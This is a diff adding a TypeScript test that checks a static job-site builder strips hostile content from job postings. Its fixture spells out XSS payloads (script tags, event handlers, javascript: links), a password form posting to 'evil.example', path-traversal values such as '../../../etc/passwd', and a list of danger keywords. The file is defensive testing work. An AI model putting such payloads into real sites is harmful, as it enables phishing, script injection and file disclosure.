@@ -1,0 +1,85 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, test } from 'node:test';
+import { buildSite, jobPostingsOf, writeFolder, type BuiltSite } from '../support/build-site.ts';
+import { dangersIn } from '../support/dangers.ts';
+import { posting } from '../support/postings.ts';
+
+const DESCRIPTION = `<p style="position:fixed">Fit <b onclick="alert(1)">glass</b>.</p>
+<script>alert(2)</script><img src=x onerror="alert(3)">
+<a href="javascript:alert(4)">Apply</a> <a href="https://ok.example/">Ours</a>
+<form action="https://evil.example/"><input type="password" name="p"><button>Log in</button></form>
+<style>body{display:none}</style><svg onload="alert(5)"></svg><iframe srcdoc="<script>alert(6)</script>"></iframe>`;
+
+describe('a hostile posting', () => {
+  let site: BuiltSite;
+  before(() => {
+    site = buildSite(
+      writeFolder({
+        'hostile.json': posting({
+          title: 'Glazier </script><script>alert(7)</script>',
+          description: DESCRIPTION,
+          slug: '../../index',
+          id: '../../index',
+          url: 'javascript:alert(8)',
+          hiringOrganization: {
+            name: '"><img src=x onerror=alert(9)>',
+            sameAs: 'javascript:alert(10)',
+          },
+          identifier: { value: '../../../etc/passwd' },
+        }),
+        'harmless.json': posting({ title: 'Baker', identifier: { value: 'b-1' } }),
+      }),
+    );
+  });
+  after(() => site.remove());
+
+  test('builds a page at its own address, beside the others', () => {
+    assert.equal(site.code, 0, site.stderr);
+    const [baker, hostile, ...others] = site.jobPages();
+    assert.match(baker ?? '', /^jobs\/baker-[0-9a-f]{10}\/$/);
+    assert.match(hostile ?? '', /^jobs\/glazier-script-script-alert-7-script-[0-9a-f]{10}\/$/);
+    assert.deepEqual(others, []);
+    assert.match(site.page('').querySelector('h1')?.textContent ?? '', /2 jobs/);
+  });
+
+  test('leaves nothing on any page that runs, loads or submits', () => {
+    for (const path of site.files().filter((file) => file.endsWith('.html'))) {
+      assert.deepEqual(dangersIn(site.page(path)), [], path);
+    }
+  });
+
+  test('keeps its words, its title as text and its one harmless link', () => {
+    const page = site.page(site.jobPages()[1] ?? '');
+    assert.equal(
+      page.querySelector('h1')?.textContent,
+      'Glazier </script><script>alert(7)</script>',
+    );
+    const prose = page.querySelector('.prose');
+    assert.match(prose?.textContent ?? '', /Fit glass\./);
+    const links = [...(prose?.querySelectorAll('a') ?? [])].map((link) =>
+      link.getAttribute('href'),
+    );
+    assert.deepEqual(links, ['https://ok.example/']);
+    const [jobPosting] = jobPostingsOf(page);
+    assert.equal(jobPosting?.['title'], 'Glazier </script><script>alert(7)</script>');
+  });
+
+  test('would be seen if the policy let its description through', () => {
+    const page = site.page(site.jobPages()[1] ?? '');
+    const prose = page.querySelector('.prose');
+    assert.ok(prose);
+    prose.innerHTML = DESCRIPTION;
+    const found = dangersIn(page).join('\n');
+    for (const danger of [
+      'script',
+      'onerror',
+      'javascript:',
+      '<form',
+      'style',
+      'iframe',
+      'onload',
+    ]) {
+      assert.ok(found.includes(danger), danger);
+    }
+  });
+});
